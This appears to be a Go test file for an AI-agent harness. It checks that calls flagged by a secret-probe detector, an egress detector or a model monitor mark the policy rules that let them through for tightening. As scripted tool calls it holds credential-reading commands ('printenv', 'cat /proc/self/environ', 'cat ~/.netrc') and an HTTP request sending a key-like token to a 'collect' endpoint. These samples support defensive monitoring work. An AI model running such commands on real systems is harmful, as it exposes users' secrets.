package engine_test

import (
	"context"
	"encoding/json"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/longhaul-dev/longhaul/internal/journal"
	"github.com/longhaul-dev/longhaul/internal/report"
	lt "github.com/longhaul-dev/longhaul/longhaultype"
)

// TestReportTightensRulesTheMonitorFlagged: a policy rule whose allowed
// call the monitor flagged (a probe, found before the rule was evaluated),
// and one whose approved call it flagged (a key-like string sent toward a
// host), are flagged to tighten in the task report, the detector and the
// call in the reason; a rule whose calls no finding names, one whose
// flagged call a person rejected, and a flagged call no rule matched flag
// nothing.
func TestReportTightensRulesTheMonitorFlagged(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()
	sp := spec(t, calls(t,
		shellCall("printenv | sort"),
		`{"name":"read_file","arguments":{"path":"missing.txt"}}`,
		httpCall("http://127.0.0.1:9/collect", "k=Zx81vQ2mLp0Wr7TyC4kN9sAe3Hf6Ju"),
		`{"name":"write_file","arguments":{"path":"x.txt","content":"cat /proc/self/environ"}}`,
		shellCall("cat ~/.netrc"),
	), monitorTools()...)
	sp.Monitor = allLog()
	sp.Policies = []lt.Policy{
		{Name: "shell-ok", Tool: "shell", When: `!args.command.startsWith("cat")`, Decision: lt.PolicyAllow},
		{Name: "reads-ok", Tool: "read_file", Decision: lt.PolicyAllow},
		{Name: "posts-ask", Tool: "http_request", Decision: lt.PolicyAsk},
		{Name: "shell-cat-ask", Tool: "shell", When: `args.command.startsWith("cat")`, Decision: lt.PolicyAsk},
	}
	s := create(t, h, sp, nil)
	// The http_request: approved.
	act := pendingApproval(t, h, s.ID)
	require.Equal(t, "posts-ask", act.Policy)
	_, err := h.eng.DecideAction(ctx, s.ID, act.ID, &lt.Decision{Decision: lt.DecisionApprove})
	require.NoError(t, err)
	// cat ~/.netrc: rejected, never ran.
	act = pendingApproval(t, h, s.ID)
	require.Equal(t, "shell-cat-ask", act.Policy)
	_, err = h.eng.DecideAction(ctx, s.ID, act.ID, &lt.Decision{Decision: lt.DecisionReject, Reason: "no"})
	require.NoError(t, err)
	h.waitStatus(s.ID, lt.SessionIdle)
	got := findings(t, h, s.ID)
	// printenv (allowed), the write_file's text (no rule matched it) and
	// cat ~/.netrc (rejected).
	require.Len(t, got["secret_probe"], 3, "%v", got)
	require.Len(t, got["secret_like_egress"], 1, "%v", got)

	row, err := h.store.SessionGet(ctx, s.ID)
	require.NoError(t, err)
	var st journal.State
	require.NoError(t, json.Unmarshal(row.State, &st))
	require.Len(t, st.Tally.Tighten, 2, "%v", st.Tally.Tighten)
	require.Contains(t, st.Tally.Tighten["shell-ok"], "secret_probe")
	require.Contains(t, st.Tally.Tighten["shell-ok"], "shell call")
	require.Contains(t, st.Tally.Tighten["posts-ask"], "secret_like_egress")
	require.Contains(t, st.Tally.Tighten["posts-ask"], "http_request call")

	rep, err := report.New(h.store, &report.Config{Now: func() time.Time { return row.CreatedAt.Add(time.Hour) }}).
		TaskReport(ctx, lt.TaskReportParams{Since: "2d"})
	require.NoError(t, err)
	flagged := map[string]string{}
	for _, p := range rep.Totals.Policies {
		if p.Tighten {
			flagged[p.Rule] = p.TightenReason
		}
	}
	require.Equal(t, st.Tally.Tighten, flagged, "the report flags the rules the journal linked")
}

// TestReportTightensRulesTheModelMonitorFlagged: the model monitor's warn
// before a call a rule allowed, and its pause before one a person approved
// (then let run), flag those rules; its ok flags nothing.
func TestReportTightensRulesTheModelMonitorFlagged(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()
	dir := t.TempDir()
	sp := spec(t, calls(t,
		shellCall("echo one >> "+filepath.Join(dir, "a")),
		shellCall("echo two >> "+filepath.Join(dir, "b")),
		shellCall("echo three >> "+filepath.Join(dir, "c")),
	), irreversibleShell)
	sp.Monitor = modelMonitor(0, []lt.EffectClass{lt.EffectIrreversible},
		verdictStep("warn", "writes outside the task"),
		verdictStep("ok"),
		verdictStep("pause", "a third write"))
	sp.Policies = []lt.Policy{
		{Name: "one-ok", Tool: "shell", When: `args.command.contains("one")`, Decision: lt.PolicyAllow},
		{Name: "two-ok", Tool: "shell", When: `args.command.contains("two")`, Decision: lt.PolicyAllow},
		{Name: "three-ask", Tool: "shell", When: `args.command.contains("three")`, Decision: lt.PolicyAsk},
	}
	s := create(t, h, sp, nil)
	act := pendingApproval(t, h, s.ID)
	require.Equal(t, "three-ask", act.Policy)
	_, err := h.eng.DecideAction(ctx, s.ID, act.ID, &lt.Decision{Decision: lt.DecisionApprove})
	require.NoError(t, err)
	s = h.waitStatus(s.ID, lt.SessionRequiresAction)
	require.Equal(t, lt.ActionMonitor, s.RequiredActions[0].Type)
	_, err = h.eng.DecideAction(ctx, s.ID, s.RequiredActions[0].ID, &lt.Decision{Decision: lt.DecisionContinue})
	require.NoError(t, err)
	h.waitStatus(s.ID, lt.SessionIdle)

	row, err := h.store.SessionGet(ctx, s.ID)
	require.NoError(t, err)
	var st journal.State
	require.NoError(t, json.Unmarshal(row.State, &st))
	require.Len(t, st.Tally.Tighten, 2, "%v", st.Tally.Tighten)
	require.Contains(t, st.Tally.Tighten["one-ok"], "the model monitor answered warn")
	require.Contains(t, st.Tally.Tighten["one-ok"], "writes outside the task")
	require.Contains(t, st.Tally.Tighten["three-ask"], "the model monitor answered pause")
	require.NotContains(t, st.Tally.Tighten, "two-ok", "ok flags nothing")
}
